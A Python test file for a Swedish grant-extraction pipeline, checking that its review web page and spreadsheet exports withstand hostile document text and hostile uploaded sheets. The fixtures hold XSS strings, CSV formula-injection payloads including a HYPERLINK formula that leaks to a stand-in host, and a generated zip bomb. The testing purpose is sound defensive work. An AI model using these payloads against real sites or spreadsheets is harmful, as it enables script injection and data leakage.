"""The review sheet and page under hostile text: nothing a document says becomes markup, script or formula,
and what a spreadsheet saves comes back as the text it was."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pandas as pd
import pytest

from flows.cli import main
from pipeline.outputs import review, review_apply
from pipeline.outputs.pages import exact_kronor, json_for_script, render
from pipeline.publish import corrections as corr
from pipeline.publish.cells import quote_formula, unquote_formula
from pipeline.run.loop import run_archive

COMMENT_OPENS_SCRIPT = "<!--<script>"
PLACEHOLDER = "SCRIPT_PLACEHOLDER"
LEAK = '=HYPERLINK("http://x.invalid/?leak","klicka")'
FORMULA_NAME = '=HYPERLINK("x","y").txt'
LONG_TOKEN = "QmlkcmFnc2JlbG9wcA" * 40  # one unbroken word of 720 characters: a page must wrap it, not widen
# one document a line of the archive; each sentence holds a sum the rules find, and text meant to do harm
HOSTILE = {
    FORMULA_NAME: "Region Uppsala får 12 482 000 kronor i statsbidrag för 2024 "
    f"{COMMENT_OPENS_SCRIPT} enligt beslutet.",
    "plats.txt": f"{PLACEHOLDER} Region Dalarna beviljas 3,5 miljoner kronor för 2025 "
    "</script><script>alert(1)</script>.",
    "formel.txt": f"{LEAK} Region Skåne får 7 miljoner kronor för 2024.\n\n"
    "+SUM(A1) Region Kalmar får 2 miljoner kronor för 2023.\n\n"
    "@cmd Region Gävleborg får 4 miljoner kronor för 2023.\n\n"
    "-2+3 Region Västernorrland får 5 miljoner kronor för 2023.",
    "lang.txt": f"Region Jämtland Härjedalen får 9 miljoner kronor för 2024 ur {LONG_TOKEN}.",
    ("x" * 200) + ".txt": "Region Norrbotten får 6 miljoner kronor för 2024.",
}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_output(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    archive = root / "arkiv"
    archive.mkdir()
    for name, text in HOSTILE.items():
        (archive / name).write_text(text + "\n", encoding="utf-8")
    run_archive(archive, root / "out", use_cache=False)
    return root / "out"


@pytest.fixture(scope="module")
def hostile_items(hostile_output) -> list[dict]:
    rows = review.items(hostile_output, 1.01)
    evidence = " ".join(r["evidence"] + r["source_uri"] for r in rows)
    for needle in (
        COMMENT_OPENS_SCRIPT,
        PLACEHOLDER,
        "</script>",
        LEAK,
        FORMULA_NAME,
        "+SUM(A1)",
        "@cmd",
        LONG_TOKEN[:300],
    ):
        assert needle in evidence, needle  # the hostile text reached the review: the tests below mean something
    return rows


# --- what a page embeds ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "</script><script>alert(1)</script>",
        COMMENT_OPENS_SCRIPT,
        PLACEHOLDER,
        "a\u2028b\u2029c",
        {"k": "<b>&amp;</b>", "n": [1, 2.5, None]},
        "'\"\\",
    ],
)
def test_json_for_script_holds_no_character_that_ends_or_alters_a_script(value):
    text = str(json_for_script(value))
    assert not set(text) & {"<", ">", "&", "\u2028", "\u2029"}
    assert json.loads(text) == value


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (12_482_000, "12\u00a0482\u00a0000\u00a0kr"),
        ("12482000", "12\u00a0482\u00a0000\u00a0kr"),
        (950, "950\u00a0kr"),
        (-5_000, "\u22125\u00a0000\u00a0kr"),
        ("ingen summa", "ingen summa"),
        (math.nan, "nan"),
    ],
)
def test_exact_sums_are_written_the_swedish_way(value, text):
    assert exact_kronor(value) == text


def test_the_page_escapes_text_and_embeds_data_safely(hostile_items):
    page = review.review_page(hostile_items)
    assert page.count("<script") == 3 and page.count("</script>") == 3  # rows, columns and the page's own script
    assert COMMENT_OPENS_SCRIPT not in page and "<script>alert" not in page
    assert "&lt;!--&lt;script&gt;" in page  # shown as text in the evidence cell
    assert page.index('id="rows"') < page.index('id="columns"') < page.rindex("<script>")


def test_the_review_page_comes_from_the_autoescaped_template():
    page = render("review.html", rows=[{c: "<i>x</i>" for c in review.COLUMNS}], columns=review.COLUMNS)
    assert "<i>" not in page and "&lt;i&gt;x&lt;/i&gt;" in page


def test_why_texts_and_sums_are_swedish(hostile_items):
    import re

    assert all(re.fullmatch(r"säkerheten [01],\d\d är under gränsen 1,01", r["why"]) for r in hostile_items)
    page = review.review_page(hostile_items)
    assert "12\u00a0482\u00a0000\u00a0kr" in page and "beviljat" in page and "osäker uppgift" in page


def test_the_page_with_hostile_text_saves_in_chromium_and_fits_the_window(hostile_output, hostile_items, tmp_path):
    from tests.browser import open_page

    page_path = tmp_path / "granskning.html"
    assert main(["review", str(hostile_output), "--below", "1.01", "--out", str(page_path)]) == 0
    saved = tmp_path / "sparad.csv"
    with open_page(page_path, width=1300) as seen:
        page = seen.page
        assert page.evaluate("document.scripts.length") == 3
        assert page.evaluate("document.documentElement.scrollWidth") <= 1300
        assert page.evaluate("JSON.parse(document.getElementById('rows').textContent)") == hostile_items
        cells = page.locator("#items tbody td.ev").all_inner_texts()
        assert any(COMMENT_OPENS_SCRIPT in c for c in cells) and any(PLACEHOLDER in c for c in cells)
        page.fill("#who", "granskare")
        for k, row in enumerate(hostile_items):
            if row["evidence"].startswith(("=", "+", "@")) or PLACEHOLDER in row["evidence"]:
                page.locator(f'#items tbody tr[data-row="{k}"] [name=verdict]').select_option("reject")
        with page.expect_download() as download:
            page.click("#save")
        download.value.save_as(str(saved))
        assert seen.console_errors == []
    assert_no_formula_cells(saved.read_bytes().decode("utf-8-sig"), ";")
    assert main(["review", str(hostile_output), "--apply", str(saved)]) == 0
    applied = corr.load(hostile_output / "corrections.csv")
    assert sorted(c.text for c in applied) == [
        "2 miljoner kronor",
        "3,5 miljoner kronor",
        "4 miljoner kronor",
        "7 miljoner kronor",
    ]
    assert {c.field for c in applied} == {"reject"}
    (hostile_output / "corrections.csv").unlink()


# --- formula cells in every CSV bidrag writes ------------------------------------------------------------------


def assert_no_formula_cells(text: str, delimiter: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS_STARTS):
                assert cell.lstrip("-").replace(",", "").replace(".", "").isdigit(), cell  # a number is no formula
    return rows


def _written_csv(kind: str, output: Path, tmp: Path) -> tuple[str, str]:
    if kind == "review.csv":
        review.write(review.items(output, 1.01), tmp / "r.csv")
        return (tmp / "r.csv").read_bytes().decode("utf-8-sig"), ";"
    if kind in ("csv", "csv-sv"):
        assert main(["export", str(output), "-f", kind, "--out", str(tmp / kind)]) == 0
        text = "".join((tmp / kind / f"{t}.csv").read_bytes().decode("utf-8-sig") for t in ("documents", "amounts"))
        return text, ";" if kind == "csv-sv" else ","
    rows = review.items(output, 1.01)
    for row in rows:
        row.update(verdict="fix", field="programme", value="=1+1", reason="@ kolla", who="-granskare")
    review.write(rows, tmp / "r.csv")
    target = tmp / "corrections.csv"
    review_apply.apply_review(output, tmp / "r.csv", target)
    return target.read_text(encoding="utf-8"), ","


@pytest.mark.parametrize("kind", ["review.csv", "csv", "csv-sv", "corrections.csv"])
def test_every_csv_bidrag_writes_quotes_formula_cells(hostile_output, hostile_items, tmp_path, kind):
    text, delimiter = _written_csv(kind, hostile_output, tmp_path)
    rows = assert_no_formula_cells(text, delimiter)
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def test_apply_reads_quoted_cells_back_as_the_text_they_were(hostile_output, hostile_items, tmp_path):
    rows = [dict(r, verdict="fix", field="programme", value="=1+1", reason="@ kolla") for r in hostile_items]
    review.write(rows, tmp_path / "r.csv")
    target = tmp_path / "corrections.csv"
    review_apply.apply_review(hostile_output, tmp_path / "r.csv", target)
    loaded = corr.load(target)
    want = {(r["doc_id"], r["text"], r["context"]) for r in hostile_items}
    assert {(c.doc_id, c.text, c.context) for c in loaded} == want
    assert {c.raw_value for c in loaded} == {"=1+1"} and {c.reason for c in loaded} == {"@ kolla"}
    summary = run_archive_again(hostile_output, target)
    assert summary == {"applied": len(hostile_items)}


def run_archive_again(output: Path, corrections_csv: Path) -> dict:
    archive = output.parent / "arkiv"
    return run_archive(archive, output, corrections=corrections_csv).corrections


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+46 70", "-x", "@a", "\tx", "\r=x", "'=x", "''=x", "-5", "-2,5", "'-5", "12 000", "ord", "", "'"],
)
def test_a_quoted_cell_reads_back_as_written(cell):
    quoted = quote_formula(cell)
    assert unquote_formula(quoted) == cell
    assert not quoted.startswith(DANGEROUS_STARTS) or quoted.lstrip("-").replace(",", "").isdigit()


# --- hostile sheets given to --apply ---------------------------------------------------------------------------


def sheet_text(rows: list[dict], delimiter: str = ";") -> str:
    buf = io.StringIO(newline="")
    writer = csv.DictWriter(buf, fieldnames=review.COLUMNS, delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue()


@pytest.fixture
def one_fix(hostile_items) -> dict:
    row = next(r for r in hostile_items if r["text"] == "7 miljoner kronor")
    return dict(row, verdict="fix", field="body_id", value="region:13", reason="fel län, enligt åklagarens beslut")


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("cp1252", ";"), ("utf-16", "\t"), ("utf-16-le", "\t"), ("utf-8-sig", ";"), ("utf-8", ",")],
)
def test_sheets_saved_by_excel_are_read(hostile_output, one_fix, tmp_path, capsys, encoding, delimiter):
    """Excel saves "CSV (semikolonavgränsad)" in Windows-1252 and "Unicode-text" as UTF-16 with tabs."""
    row = dict(one_fix, evidence=one_fix["evidence"].replace(LEAK, "Beslut"))  # cp1252 has no room for some text
    sheet = tmp_path / "granskning.csv"
    sheet.write_bytes(sheet_text([row], delimiter).encode(encoding))
    target = tmp_path / "corrections.csv"
    assert main(["review", str(hostile_output), "--apply", str(sheet), "--corrections", str(target)]) == 0
    (loaded,) = corr.load(target)
    assert loaded.reason == "fel län, enligt åklagarens beslut" and loaded.value == "region:13"


def _hostile_sheets(tmp: Path, row: dict, wanted: str) -> dict[str, tuple[Path, str]]:
    """name → (the sheet, what its one-line error says)."""
    text = sheet_text([row, dict(row, text="", verdict="")])
    out: dict[str, tuple[Path, str]] = {}

    def sheet(name: str, data: bytes, message: str) -> None:
        path = tmp / name
        path.write_bytes(data)
        out[name] = (path, message)

    sheet("huge-cell.csv", sheet_text([dict(row, reason="x" * 140_000)]).encode(), "huge-cell.csv line 2")
    sheet("not-a-zip.xlsx", b"PK\x03\x04 this is not a workbook", "not an Excel workbook")
    sheet("text.xlsx", text.encode(), "not an Excel workbook")
    sheet("binary.csv", b"\x81\x8d\x8f\x90\x9d" * 50, "not text in UTF-8, UTF-16 or Windows-1252")
    sheet("verdict.csv", sheet_text([dict(row, verdict="kanske")]).encode(), "verdict.csv line 2: verdict 'kanske'")
    for k, amount in enumerate(["NaN", "inf", "1e309", "-5", "1e30", "-Infinity"]):
        bad = dict(row, field="amount", value=amount)
        sheet(
            f"amount-{k}.csv", sheet_text([row, bad]).encode(), f"amount-{k}.csv line 3: {amount!r} is not a plausible"
        )
    if wanted == "bomb.xlsx":  # a few hundred kB that unpack to more than the cap
        import zipfile

        with (
            zipfile.ZipFile(tmp / wanted, "w", zipfile.ZIP_DEFLATED) as bomb,
            bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member,
        ):
            for _ in range(review_apply.MAX_UNPACKED_BYTES // 2**20 + 1):
                member.write(bytes(2**20))
        out[wanted] = (tmp / wanted, "more than a review sheet")
    big = tmp / "huge.csv"
    with open(big, "wb") as fh:  # a sparse file: its size is all that is read
        fh.truncate(review_apply.MAX_SHEET_BYTES + 1)
    out["huge.csv"] = (big, "more than a review sheet")
    return out


HOSTILE_SHEETS = [
    "huge-cell.csv",
    "not-a-zip.xlsx",
    "text.xlsx",
    "binary.csv",
    "verdict.csv",
    "huge.csv",
    "bomb.xlsx",
] + [f"amount-{k}.csv" for k in range(6)]


@pytest.mark.parametrize("name", HOSTILE_SHEETS)
def test_each_hostile_sheet_is_one_line_and_exit_2(hostile_output, one_fix, tmp_path, capsys, name):
    sheet, message = _hostile_sheets(tmp_path, one_fix, name)[name]
    target = tmp_path / "corrections.csv"
    code = main(["review", str(hostile_output), "--apply", str(sheet), "--corrections", str(target)])
    err = capsys.readouterr().err
    assert code == 2
    assert err.count("\n") == 1 and "Traceback" not in err and ".tmp" not in err, err
    assert message in err and str(sheet) in err, err
    assert not target.exists()


# --- review.xlsx -----------------------------------------------------------------------------------------------


def test_the_review_workbook_is_text_and_reads_back(hostile_items, tmp_path):
    from openpyxl import load_workbook

    path = review.write(hostile_items, tmp_path / "r.xlsx")
    ws = load_workbook(path).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0] == review.COLUMNS and len(values) == len(hostile_items) + 1
    assert all(c.data_type == "s" for row in ws.iter_rows(min_row=2) for c in row if c.value is not None)
    assert ws.freeze_panes == "A2"
    back = review_apply.read(path)
    assert [r["evidence"] for _, r in back] == [r["evidence"] for r in hostile_items]


def _cpu_seconds(rows: list[dict], path: Path) -> float:
    """Best of three, in this process's CPU time: other processes on the machine do not add to it."""
    import time

    best = math.inf
    for _ in range(3):
        t0 = time.process_time()
        review.write(rows, path)
        best = min(best, time.process_time() - t0)
    return best


def test_the_review_workbook_grows_linearly(hostile_items, tmp_path):
    """4 times the rows: a linear writer takes about 4 times as long, a quadratic one 16 times; the bound (8)
    lies far from both. The absolute figure (4,000 rows) is in benchmarks/run.py."""
    row = hostile_items[0]
    small, large = [row] * 500, [row] * 2000
    _cpu_seconds(small, tmp_path / "warm.xlsx")
    ratio = _cpu_seconds(large, tmp_path / "l.xlsx") / _cpu_seconds(small, tmp_path / "s.xlsx")
    assert ratio < 8, ratio
    assert len(pd.read_excel(tmp_path / "l.xlsx")) == 2000
